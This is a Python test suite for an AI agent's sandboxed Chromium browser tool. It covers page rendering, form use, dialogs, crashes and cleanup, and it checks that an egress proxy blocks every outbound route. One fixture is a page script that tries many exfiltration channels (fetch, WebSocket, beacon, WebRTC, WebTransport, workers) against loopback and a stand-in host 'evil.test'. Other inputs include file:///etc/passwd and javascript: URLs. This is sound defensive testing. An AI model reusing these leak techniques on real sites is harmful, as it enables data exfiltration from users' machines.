"""A real Chromium on a real site: what it shows, what it does, and that nothing of it gets past the proxy."""

import asyncio
import contextlib
import os
import socket
import tempfile
from collections.abc import Sequence
from pathlib import Path

import pytest
from aiohttp import web

from agent_fabric.application.ports.web import WebError
from agent_fabric.config.schema.tools import BrowserConfig
from agent_fabric.domain.ids import CallId, RunId
from agent_fabric.domain.tools.specs import ToolContext
from agent_fabric.infrastructure.packs.browser_pack import BrowserParts
from agent_fabric.infrastructure.packs.engineering import build_engineering_pack
from agent_fabric.infrastructure.sandbox.egress.policy import EgressRefusal, browser_policy
from agent_fabric.infrastructure.sandbox.egress.proxy import EgressProxy
from agent_fabric.infrastructure.sandbox.unconfined import UnconfinedSandbox
from agent_fabric.infrastructure.tools.browser.chromium import ChromiumLaunch, find_chromium
from agent_fabric.infrastructure.tools.browser.session import ChromiumBrowser
from integration.browser.pages import CHROMIUM, Routes, browsing, served
from integration.egress.wire import Net, listening

OTTERS = """<title>Otters</title>
<h1>Sea otters</h1>
<p>They <b>hold</b> hands. <a href="/more">More about otters</a> <img alt="an otter"></p>
<p style="display:none">hidden by display</p><p style="visibility:hidden">hidden by visibility</p>
<p style="opacity:0">hidden by opacity</p>
<form action="/search"><label>Term <input name=q></label>
<select name=kind aria-label=Kind><option>Sea<option>River</select>
<input type=checkbox name=x aria-label=Agree><input type=password name=p value=secret><button>Search</button></form>
<table><tr><td>a<td>b</table><ul><li>one<li>two</ul><div id=late></div>
<script>setTimeout(() => { late.textContent = "drawn by a script" }, 50)</script>"""


async def searched(request: web.BaseRequest) -> web.Response:
    return web.Response(text=f"<title>Found</title>you asked: {request.query_string}", content_type="text/html")


async def test_a_page_is_read_as_a_person_sees_it_and_used_by_numbers() -> None:
    routes: Routes = {"/": OTTERS, "/search": searched, "/more": "<title>More</title><p>They use tools."}
    async with served(routes) as site, browsing(site) as b:
        page = await b.browser.open(site.url(host="site.test"), timeout_s=30)
        assert (page.title, page.status, page.url) == ("Otters", 200, site.url(host="site.test"))
        assert page.text.splitlines() == [
            "# Sea otters",
            "They hold hands. [1: More about otters] [image: an otter]",
            'Term [2 field: Term = ""] [3 choice: Kind = "Sea" of Sea / River] [4 checkbox: Agree, off] '
            '[5 password: p = "***"] [6 button: Search]',
            "a | b",
            "- one",
            "- two",
            "drawn by a script",
        ]
        assert page.links == {1: site.url("/more", host="site.test")}

        page = await b.browser.type(2, "river otters", submit=False, timeout_s=30)
        assert '[2 field: Term = "river otters"]' in page.text
        page = await b.browser.type(3, "River", submit=False, timeout_s=30)
        assert '[3 choice: Kind = "River"' in page.text
        page = await b.browser.click(4, timeout_s=30)
        assert "[4 checkbox: Agree, on]" in page.text
        page = await b.browser.click(6, timeout_s=30)
        assert page.title == "Found"
        assert page.text == "you asked: q=river otters&kind=River&x=on&p=secret"

        await b.browser.open(site.url(host="site.test"), timeout_s=30)
        page = await b.browser.type(2, "otter", submit=True, timeout_s=30)
        assert page.text.startswith("you asked: q=otter&")

        url, png = await b.browser.screenshot(whole_page=False, timeout_s=30)
        assert url == page.url
        assert png.startswith(b"\x89PNG")

        with pytest.raises(WebError, match="nothing with the number 77"):
            await b.browser.click(77, timeout_s=30)
        assert set(b.proxies[0].record.uses) == {f"site.test:{site.port}"}, "the browser asks for nothing by itself"
    assert b.refusals == []


@pytest.mark.slow
async def test_windows_dialogs_frames_and_slow_answers_are_followed() -> None:
    async def slow(request: web.BaseRequest) -> web.Response:
        await asyncio.sleep(0.7)
        return web.Response(text="<title>Slow</title>at last", content_type="text/html")

    start = """<title>Start</title><a href="/new" target=_blank>new window</a>
    <button onclick="alert('pay now'); document.title = 'after'">ask</button>
    <a href="/slow">slow</a><iframe src="/frame"></iframe>"""
    frame = '<button onclick="this.textContent = `pressed`">in the frame</button>'
    routes: Routes = {"/": start, "/slow": slow, "/frame": frame, "/new": "<title>New</title>fresh"}
    async with served(routes) as site, browsing(site) as b:
        page = await b.browser.open(site.url(host="site.test"), timeout_s=30)
        assert "--- a frame in the page ---\n[100000 button: in the frame]" in page.text
        page = await b.browser.click(100_000, timeout_s=30)
        assert "[100000 button: pressed]" in page.text
        page = await b.browser.click(2, timeout_s=30)
        assert page.title == "after"
        assert page.notes == ("The page showed a dialog, which was dismissed: 'pay now'",)
        page = await b.browser.click(1, timeout_s=30)
        assert (page.title, page.text, page.notes) == ("New", "fresh", ("A new window was opened; this is it now.",))
        await b.browser.open(site.url(host="site.test"), timeout_s=30)
        page = await b.browser.click(3, timeout_s=30)
        assert (page.title, page.text) == ("Slow", "at last")


EVERY_WAY_OUT = """<title>Leak</title><body><script>
const to = "127.0.0.1:TCP_PORT", tries = [
  () => fetch("http://" + to + "/fetch", {mode: "no-cors"}),
  () => fetch("http://localhost:TCP_PORT/localhost", {mode: "no-cors"}),
  () => fetch("http://[::ffff:127.0.0.1]:TCP_PORT/mapped", {mode: "no-cors"}),
  () => fetch("http://evil.test:TCP_PORT/name", {mode: "no-cors"}),
  () => fetch("https://" + to + "/tls", {mode: "no-cors"}),
  () => { new Image().src = "http://" + to + "/image" },
  () => { new WebSocket("ws://" + to + "/ws") },
  () => { new WebSocket("wss://" + to + "/wss") },
  () => { new EventSource("http://" + to + "/events") },
  () => navigator.sendBeacon("http://" + to + "/beacon", "x"),
  () => { const f = document.createElement("iframe"); f.src = "http://" + to + "/frame"; document.body.append(f) },
  () => { for (const rel of ["preconnect", "prefetch", "dns-prefetch", "preload", "stylesheet", "icon"]) {
    const l = document.createElement("link"); l.rel = rel; l.href = "http://" + to + "/" + rel;
    document.head.append(l) } },
  () => { window.open("http://" + to + "/popup") },
  () => { new Worker(URL.createObjectURL(new Blob(["fetch('http://" + to + "/worker', {mode: 'no-cors'}); "
    + "try { new WebTransport('https://127.0.0.1:UDP_PORT/') } catch (e) {}"]))) },
  () => { new WebTransport("https://127.0.0.1:UDP_PORT/") },
  () => { const pc = new RTCPeerConnection({iceServers: [{urls: "stun:127.0.0.1:UDP_PORT"},
      {urls: "turn:127.0.0.1:TCP_PORT?transport=tcp", username: "a", credential: "b"}]});
    pc.createDataChannel("x"); pc.createOffer().then(o => pc.setLocalDescription(o)) },
  () => { const f = document.createElement("iframe"); document.body.append(f);
    const pc = new f.contentWindow.RTCPeerConnection({iceServers: [{urls: "stun:127.0.0.1:UDP_PORT"}]});
    pc.createDataChannel("x"); pc.createOffer().then(o => pc.setLocalDescription(o)) },
  () => navigator.serviceWorker.register("/worker.js"),
];
let failed = 0;
for (const attempt of tries) { try { Promise.resolve(attempt()).catch(() => { failed++ }) } catch (e) { failed++ } }
setTimeout(() => { document.body.append("tried " + tries.length) }, 1500);
</script>"""


@pytest.mark.slow
async def test_nothing_that_a_page_does_reaches_this_machine_past_the_proxy() -> None:
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.bind(("127.0.0.1", 0))
    udp.setblocking(False)
    async with listening() as secret:
        text = EVERY_WAY_OUT.replace("TCP_PORT", str(secret.port)).replace("UDP_PORT", str(udp.getsockname()[1]))
        async with served({"/": text, "/worker.js": "fetch('/')"}) as site, browsing(site) as b:
            page = await b.browser.open(site.url(host="site.test"), timeout_s=30)
            async with asyncio.timeout(20):
                while "tried" not in page.text:  # everything that starts late has started
                    page = await b.browser.read(timeout_s=30)
            assert {"127.0.0.1", "localhost", "evil.test"} <= {refusal.host for refusal in b.refusals}
            assert set(b.proxies[0].record.uses) == {f"site.test:{site.port}"}
            assert "/worker.js" not in {request.path for request in site.requests}, "no service worker"
    assert secret.connections == 0
    with udp, pytest.raises(BlockingIOError):
        udp.recv(2_000)


@pytest.mark.parametrize(
    "url",
    [
        *("file:///etc/passwd", "chrome://version", "view-source:http://site.test/", "data:text/html,x", "about:blank"),
        *("javascript:alert(1)", "http://user:pw@site.test/", "http://", "site.test", "ftp://site.test/", ""),
    ],
)
async def test_what_is_no_web_address_is_not_opened_and_starts_no_browser(url: str) -> None:
    async with served({}) as site, browsing(site) as b:
        with pytest.raises(WebError):
            await b.browser.open(url, timeout_s=30)
    assert b.proxies == []


@pytest.mark.slow
async def test_private_addresses_are_refused_also_by_redirect_link_and_script() -> None:
    async with listening() as secret:
        to = f"http://127.0.0.1:{secret.port}/"

        async def redirect(request: web.BaseRequest) -> web.Response:
            return web.Response(status=302, headers={"Location": to})

        page = f"""<a href="{to}">link</a> <a href="https://127.0.0.1:{secret.port}/">tls</a>
        <button onclick="location = '{to}'">script</button><form action="{to}" method=post><input name=a></form>
        <a href="file:///etc/passwd">file</a>"""
        async with served({"/": page, "/away": redirect}) as site, browsing(site) as b:
            home = site.url(host="site.test")
            for url in (to, f"https://127.0.0.1:{secret.port}/", f"http://evil.test:{secret.port}/", f"{home}away"):
                with pytest.raises(PermissionError, match=r"`web\.allow_hosts`"):
                    await b.browser.open(url, timeout_s=30)
            for number in (1, 2, 3):
                await b.browser.open(home, timeout_s=30)
                with pytest.raises(PermissionError, match=r"`web\.allow_hosts`"):
                    await b.browser.click(number, timeout_s=30)
            await b.browser.open(home, timeout_s=30)
            with pytest.raises(PermissionError):
                await b.browser.type(4, "secret", submit=True, timeout_s=30)
            await b.browser.open(home, timeout_s=30)
            page_after = await b.browser.click(5, timeout_s=30)
            assert page_after.url == home, "a page of the web does not lead into the files of this machine"
    assert secret.connections == 0


@pytest.mark.slow
async def test_downloads_are_refused_and_errors_are_told() -> None:
    async def download(request: web.BaseRequest) -> web.Response:
        return web.Response(body=b"x" * 100, headers={"Content-Disposition": "attachment; filename=a.bin"})

    async with served({"/": "<a href=/file>get</a>", "/file": download}) as site, browsing(site) as b:
        with pytest.raises(WebError, match="file to download"):
            await b.browser.open(site.url("/file", host="site.test"), timeout_s=30)
        missing = await b.browser.open(site.url("/none", host="site.test"), timeout_s=30)
        assert (missing.status, missing.text) == (404, "no such page")
        with pytest.raises(WebError, match=r"could not be (opened|loaded)"):
            await b.browser.open("https://nowhere.test/", timeout_s=30)
        profile = next(Path(folder) for folder in _profiles())
        assert not list(profile.rglob("*.bin"))


@pytest.mark.slow
async def test_a_browser_that_dies_is_told_and_the_next_page_gets_a_new_one() -> None:
    async with served({"/": OTTERS}) as site, browsing(site) as b:
        await b.browser.open(site.url(host="site.test"), timeout_s=30)
        for pid in _chromiums():
            with contextlib.suppress(ProcessLookupError):  # it ends with the others
                os.kill(pid, 9)
        with pytest.raises(WebError, match=r"crashed|No page is open"):
            await b.browser.read(timeout_s=30)
        with pytest.raises(WebError, match="No page is open"):
            await b.browser.click(1, timeout_s=30)
        page = await b.browser.open(site.url(host="site.test"), timeout_s=30)
        assert page.title == "Otters"
        assert len(b.proxies) == 2


@pytest.mark.slow
async def test_a_page_whose_script_never_ends_is_given_up() -> None:
    stuck = "<title>Stuck</title><script>onload = () => setTimeout(() => { for (;;); }, 50)</script>"
    async with served({"/": stuck, "/ok": OTTERS}) as site, browsing(site, timeout_s=2) as b:
        with pytest.raises(WebError, match="did not react within 2 s"):
            await b.browser.open(site.url(host="site.test"), timeout_s=30)
        assert (await b.browser.open(site.url("/ok", host="site.test"), timeout_s=30)).title == "Otters"


@pytest.mark.slow
async def test_nothing_is_left_after_closing_and_the_browser_was_nobody() -> None:
    async with served({"/": OTTERS}) as site, browsing(site) as b:
        await b.browser.open(site.url(host="site.test"), timeout_s=30)
        pids = _chromiums()
        assert pids
        assert {Path(f"/proc/{pid}").stat().st_uid for pid in pids} == {65_534 if os.getuid() == 0 else os.getuid()}
        commands = b" ".join(Path(f"/proc/{pid}/cmdline").read_bytes() for pid in pids)
        assert b"--no-sandbox" not in commands
        # Not all there are: other tests have browsers of their own at the same time.
        profiles = {path for path in _profiles() if path.encode() in commands}
        assert profiles
        await b.browser.aclose()
        async with asyncio.timeout(60):
            while _chromiums():
                await asyncio.sleep(0.05)
    assert not profiles & {*_profiles()}


@pytest.mark.slow
async def test_a_pack_opens_a_page_keeps_a_picture_and_takes_the_browser_along_when_it_closes(tmp_path: Path) -> None:
    run, refused = RunId("run"), list[tuple[RunId, EgressRefusal]]()
    context = ToolContext(run_id=run, call_id=CallId("call"), timeout_s=30, network_allowed=True)
    sandbox = UnconfinedSandbox(tmp_path, run)
    async with listening() as secret, served({"/": f"{OTTERS}<img src='http://127.0.0.1:{secret.port}/'>"}) as site:
        parts = BrowserParts(
            config=BrowserConfig(enabled=True, executable=CHROMIUM),
            allow_hosts=(f"127.0.0.2:{site.port}",),
            on_refused=lambda run_id, refusal: refused.append((run_id, refusal)),
        )
        pack = parts.added_to(build_engineering_pack(sandbox), run_id=run, sandbox=sandbox, network_allowed=True)
        await pack.aopen()
        opened = await pack.execute_tool("browser_open", {"url": site.url(host="127.0.0.2")}, context)
        await pack.execute_tool("browser_screenshot", {"path": "otters.png", "whole_page": True}, context)
        with pytest.raises(PermissionError):
            await pack.execute_tool("browser_open", {"url": f"http://127.0.0.1:{secret.port}/"}, context)
        await pack.aclose()
        async with asyncio.timeout(20):
            while _chromiums():
                await asyncio.sleep(0.05)
    assert opened.output["title"] == "Otters"
    assert opened.origin == site.url(host="127.0.0.2")
    assert (tmp_path / "otters.png").read_bytes().startswith(b"\x89PNG")
    assert [(run_id, refusal.host) for run_id, refusal in refused] == [(run, "127.0.0.1")]
    assert secret.connections == 0


async def test_a_missing_browser_is_explained(tmp_path: Path) -> None:
    with pytest.raises(WebError, match=r"`browser\.executable`"):
        find_chromium(BrowserConfig(executable=tmp_path / "none"))


def _profiles() -> list[str]:
    return [str(path) for path in Path(tempfile.gettempdir()).glob("fabric-browser-*")]


def _chromiums() -> list[int]:
    """The Chromium processes of this test: those below this process."""
    parents, names = {}, {}
    for entry in Path("/proc").iterdir():
        if entry.name.isdecimal():
            try:
                stat = (entry / "stat").read_text()
            except OSError:
                continue
            name, rest = stat[stat.index("(") + 1 : stat.rindex(")")], stat[stat.rindex(")") + 2 :].split()
            if rest[0] != "Z":
                parents[int(entry.name)], names[int(entry.name)] = int(rest[1]), name

    def ours(pid: int) -> bool:
        while pid in parents:
            if pid == os.getpid():
                return True
            pid = parents[pid]
        return False

    return [pid for pid, name in names.items() if "chrom" in name and ours(pid)]


def test_a_launch_has_a_profile_of_its_own_and_an_empty_environment() -> None:
    one, two = ChromiumLaunch.prepare("/usr/bin/true"), ChromiumLaunch.prepare("/usr/bin/true")
    try:
        assert one.profile != two.profile
        assert set(one.environment()) == {"PATH", "HOME", "TMPDIR", "LANG"}
        assert one.profile.stat().st_mode & 0o077 == 0
    finally:
        one.remove()
        two.remove()
    assert not one.folder.path.exists()


async def test_the_browser_looks_up_no_host_by_itself() -> None:
    foreign, names = asyncio.Event(), list[str]()

    class Watched(Net):
        async def lookup(self, host: str, port: int) -> Sequence[str]:
            if host != "site.test":
                names.append(host)
                foreign.set()
            return await super().lookup(host, port)

    async with served({"/": "<title>Otters</title>"}) as site:
        config = BrowserConfig(enabled=True, executable=CHROMIUM)
        net, policy = Watched({"site.test": ["127.0.0.2"]}), browser_policy(config, (f"site.test:{site.port}",))
        browser = ChromiumBrowser(config, lambda: EgressProxy(policy, loopback=True, lookup=net.lookup))
        try:
            assert (await browser.open(site.url(host="site.test"), timeout_s=30)).title == "Otters"
            with contextlib.suppress(TimeoutError):
                await asyncio.wait_for(foreign.wait(), 6)  # its own requests come within the first seconds
        finally:
            await browser.aclose()
    assert names == []
